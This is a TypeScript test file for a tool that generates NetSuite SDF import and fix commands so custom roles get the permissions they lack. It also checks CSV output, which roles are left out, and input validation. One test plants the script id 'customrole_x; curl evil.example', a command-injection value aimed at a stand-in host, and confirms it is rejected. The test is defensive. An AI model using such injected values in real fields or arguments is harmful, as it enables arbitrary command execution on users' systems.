import { setRolePermission } from '../../local/account/permissions';
import { findRole, saveRole } from '../../local/account/roles';
import { accountCsv, accountJson, accountPage, linksOn } from '../support/accountViews';
import { demoAccountForEachTest } from '../support/demoAccount';

const demo = demoAccountForEachTest();
const idOf = (scriptId: string) => String(findRole(demo.local.account, scriptId)!.id);
const sdf = (parameters: Record<string, string> = {}) => accountJson(demo.admin, { view: 'sdf', ...parameters });

describe('a fix by SDF', () => {
  it('names exactly the permissions that a role lacks, and then the role is ready', async () => {
    const role = idOf('customrole_bw_sales_emea');
    const { commands, roles, leftOut } = await sdf({ role });
    expect(commands!.import).toBe('suitecloud object:import --type role --scriptid customrole_bw_sales_emea --destinationfolder /Objects');
    expect(commands!.fix).toBe('extendsync fix --profile sign-in,email,files,calendar,records --only customrole_bw_sales_emea');
    expect(leftOut).toEqual([]);
    for (const { key, level } of roles[0]!.permissions!) {
      setRolePermission(demo.local.account, Number(role), key, ['None', 'View', 'Create', 'Edit', 'Full'].indexOf(level) as 4);
    }
    const judged = (await accountJson(demo.admin, { role })) as unknown as { verdict: string };
    expect(judged.verdict).toBe('ready');
    expect((await sdf({ role })).leftOut).toMatchObject([{ reason: 'nothing-to-add' }]);
  });

  it('sets the level of what is there already, apart from what is added', async () => {
    const role = idOf('customrole_bw_support_tier1');
    const { roles } = await sdf({ role });
    const changes = Object.fromEntries(roles[0]!.permissions!.map(({ key, change }) => [key, change]));
    expect(changes).toMatchObject({ LIST_CRMMESSAGE: 'set', LIST_FILECABINET: 'set' });
    const html = await accountPage(demo.admin, { view: 'sdf', role });
    expect(html).toContain(`id="extsync-set-${role}"`);
    expect(html).toContain('&lt;permkey>LIST_CRMMESSAGE&lt;/permkey>');
  });

  it('is for the roles of a filter or a search, problems first, as the list of roles shows them', async () => {
    const { commands, roles, leftOut, page } = await sdf({ q: 'sales', verdict: 'not-ready' });
    const listed = (await accountJson(demo.admin, { q: 'sales', verdict: 'not-ready' })).roles;
    expect(page.total).toBe(listed.length);
    expect(roles.length + leftOut.length).toBe(listed.length);
    expect(commands!.import.match(/customrole_\w+/g)).toEqual(roles.map(({ scriptId }) => scriptId));
    const links = linksOn(await accountPage(demo.admin, { q: 'sales', verdict: 'not-ready' }));
    expect(links.some((address) => address.includes('view=sdf') && address.includes('q=sales') && address.includes('verdict=not-ready'))).toBe(true);
  });

  it('leaves out what SDF cannot change, each with its reason', async () => {
    const { leftOut } = await sdf({ verdict: 'all' });
    const reasons = new Map(leftOut.map(({ name, reason }) => [name, reason]));
    expect(Object.fromEntries(['Administrator', 'ExtendSync Role Reader', 'ExtendSync User', 'Draft Role', 'Sales with Outlook'].map((name) => [name, reasons.get(name)]))).toEqual({
      Administrator: 'administrator',
      'ExtendSync Role Reader': 'own-role',
      'ExtendSync User': 'own-role',
      'Draft Role': 'not-read',
      'Sales with Outlook': 'nothing-to-add',
    });
    expect(leftOut.filter(({ reason }) => reason === 'standard-role').length).toBeGreaterThan(5);
  });

  it('never puts a script id into a command that a shell would not take as a word', async () => {
    saveRole(demo.local.account, { id: 4001, scriptId: 'customrole_x; curl evil.example', name: 'Evil', centerType: 'BASIC', permissions: [{ key: 'LIST_EMPLOYEE', level: 1 }] });
    const { commands, leftOut } = await sdf({ verdict: 'all' });
    expect(commands!.import).toMatch(/^suitecloud object:import --type role --scriptid [a-z0-9_ ]+ --destinationfolder \/Objects$/);
    expect(leftOut.find(({ name }) => name === 'Evil')?.reason).toBe('script-id');
    expect((await sdf({ role: '4001' })).commands).toBeUndefined();
  });

  it('says what permissions do not mend, of roles with and without a change', async () => {
    const html = await accountPage(demo.admin, { view: 'sdf', verdict: 'beyond-permissions' });
    expect(html).toContain('data-obstacle="web-services-only"');
    expect(html).toContain('data-note="maybe-crm-specialised"');
  });

  it('says which of the roles named are not there, and is refused where none is', async () => {
    const role = idOf('customrole_bw_sales_emea');
    expect((await sdf({ role: `${role},987654` })).notFound).toEqual([987654]);
    expect(await accountPage(demo.admin, { view: 'sdf', role: `${role},987654` })).toContain('data-not-found');
    expect((await sdf({ role: '987654,987655' })).error?.code).toBe('ROLE_NOT_FOUND');
  });

  it('is the same in the CSV', async () => {
    const role = idOf('customrole_bw_sales_emea');
    const rows = await accountCsv(demo.admin, { view: 'sdf', role });
    const { roles } = await sdf({ role });
    expect(rows.slice(1).map((row) => row.slice(2, 6))).toEqual(roles[0]!.permissions!.map(({ key, level, change }) => ['customrole_bw_sales_emea', key, level, change]));
  });

  it.each(['x', '1,x', '0', '1;2', Array.from({ length: 51 }, (_, index) => index + 1).join(',')])('is refused for the roles %s', async (role) => {
    expect((await sdf({ role })).error?.code).toBe('INVALID_INPUT');
  });
});
